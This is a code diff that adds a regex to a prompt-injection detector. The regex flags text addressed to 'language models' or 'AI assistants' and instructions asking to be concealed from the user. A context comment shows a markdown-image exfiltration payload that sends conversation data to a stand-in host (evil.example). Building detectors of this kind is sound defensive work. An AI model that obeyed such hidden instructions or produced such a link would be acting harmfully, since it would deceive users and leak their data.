@@ -183,6 +183,16 @@ const PATTERNS: readonly InjectionPattern[] = [
         String.raw`(?![,;.]?\s{1,3}(?:I|we)(?:'ll|${S}(?:sent|pasted|posted|gave|wrote|attached|mixed|got|will|made)))(?<!above(?=${S}(?:the|a|an|this|that|our|your|its|each|every)\b))`,
     ),
   },
+  // A notice addressed to the model at the start of a line or sentence ("Attention model:",
+  // "IMPORTANT for language models:"), and instructions that ask to be kept from the user.
+  {
+    re: re(
+      String.raw`(?<=^\s{0,3}|[\n.!?)\]]\s{0,3}|[*_#>]\s{0,2})(?:attention|important|notice|warning|note)\s{0,3}(?:(?:for|to)${S})?(?:(?:the|all|any)${S})?` +
+        String.raw`(?:language${S}models?|AI${S}(?:models?|assistants?|agents?)|LLMs?|models?|assistants?|chatbots?|AIs?)\s{0,3}:` +
+        String.raw`|\b(?:never|do${S}not|don'?t)${S}(?:mention|reveal|disclose|acknowledge|tell${S}the${S}user${S}about)${S}(?:this|these|the${S}above|the${S}following)${S}(?:instructions?|notes?|rules?|directives?)\b` +
+        String.raw`|\bwithout${S}(?:telling|informing|alerting|notifying)${S}the${S}user\b`,
+    ),
+  },
   // Markdown image or link whose URL carries a template slot for conversation data: the client
   // renders it and sends the data to that host. ![x](https://evil.example/log?q={conversation})
   {
